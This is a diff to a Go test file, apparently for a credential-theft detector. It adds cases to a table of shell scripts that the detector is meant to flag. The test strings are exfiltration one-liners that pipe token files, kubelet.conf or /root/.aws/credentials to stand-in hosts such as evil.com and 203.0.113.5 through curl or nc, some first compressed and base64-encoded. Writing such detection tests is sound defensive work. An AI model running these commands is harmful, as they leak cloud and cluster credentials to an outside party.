@@ -15,6 +15,8 @@ func TestCredentialTheft(t *testing.T) {
 		{name: "kubelet.conf", script: "curl -sX POST --data-binary @/etc/kubernetes/kubelet.conf https://x.example.net/k", want: ct},
 		{name: "cat into curl stdin", script: "cat " + token + " | curl -d @- http://evil.com", want: ct},
 		{name: "base64 then curl", script: "cat " + token + " | base64 -w0 | curl --data-binary @- https://evil.com", want: ct},
+		{name: "compressed and encoded", script: "cat " + token + " | gzip | base64 | curl -d @- http://evil.example.com", want: ct},
+		{name: "aws credentials", script: `curl -X POST -d "$(cat /root/.aws/credentials)" http://203.0.113.5/`, want: ct},
 		{name: "cat into nc", script: "cat " + token + " | nc 1.2.3.4 9999", want: ct},
 		{name: "nc with redirect", script: "nc 1.2.3.4 9999 < " + token, want: ct},
 		{name: "nc unknown host", script: "cat " + token + " | nc $C2 9999", want: ct},
